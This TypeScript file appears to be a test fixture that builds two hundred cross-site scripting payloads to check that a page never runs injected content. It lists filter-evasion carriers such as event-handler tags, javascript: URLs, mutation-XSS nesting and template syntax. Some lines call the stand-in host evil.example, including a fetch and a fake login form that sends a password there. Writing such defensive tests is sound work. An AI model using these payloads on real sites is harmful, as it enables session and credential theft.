/** Scripts that set a mark, which the journey checks. */
const scripts = [
  'window.__hit=1',
  "top['__hit']=1",
  'alert(__hit=1)',
  "import('data:text/javascript,top.__hit=1')",
  'fetch(`https://evil.example/${__hit=1}`)',
];

/** Texts that try to inject a script, a form, a frame or an overlay into a page. `%` is the script. */
const carriers = [
  '<script>%</script>',
  '</script><script>%</script>',
  '</title></textarea><script>%</script>',
  '<scr<script>ipt>%</scr</script>ipt>',
  '<script\0>%</script\0>',
  '<img src=x onerror="%">',
  '<img src=x:x onerror\n=\n"%">',
  '"><img src=x onerror="%">',
  "'><svg onload='%'>",
  '<svg><script>%</script></svg>',
  '<svg><animate onbegin="%" attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:%"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>%</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%&gt;">',
  '<math href="javascript:%">x</math>',
  '<a href="javascript:%">read on</a>',
  '<a href="jav&#x09;ascript:%">read on</a>',
  '<a href="&#14; javascript:%">read on</a>',
  '<a href="data:text/html,<script>%</script>">read on</a>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<iframe src="javascript:%"></iframe>',
  '<object data="javascript:%"></object>',
  '<embed src="data:text/html,<script>%</script>">',
  '<video><source onerror="%"></video>',
  '<audio src=x onerror="%">',
  '<body onload="%"><input autofocus onfocus="%">',
  '<details open ontoggle="%">x</details>',
  '<marquee onstart="%">x</marquee>',
  '<p style="animation-name:x" onanimationstart="%">x</p>',
  '<p onpointerenter="%" style="position:fixed;inset:0;z-index:9999">x</p>',
  '<form action="https://evil.example/?%"><input name=password><button>Log in</button></form>',
  '<form id=f></form><button form=f formaction="javascript:%">Log in</button>',
  '<isindex action="javascript:%" type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:%">',
  '<base href="https://evil.example/%/">',
  '<link rel="stylesheet" href="https://evil.example/%.css"><style>@import "https://evil.example/%";</style>',
  '<template><img src=x onerror="%"></template><noscript><p title="</noscript><img src=x onerror=%>">',
  '<div id="root"><div class="Toastify" data-overlay style="position:fixed;top:0">%</div></div>',
  '{{constructor.constructor("%")()}}${%}<%= % %>',
  '\u202e<img src=x onerror="%">\u0000\uFEFF]]>--><script>%</script>',
];

/** Two hundred injection attempts. */
export const hostileTexts: readonly string[] = carriers.flatMap((carrier) =>
  scripts.map((script) => carrier.replaceAll('%', script)),
);
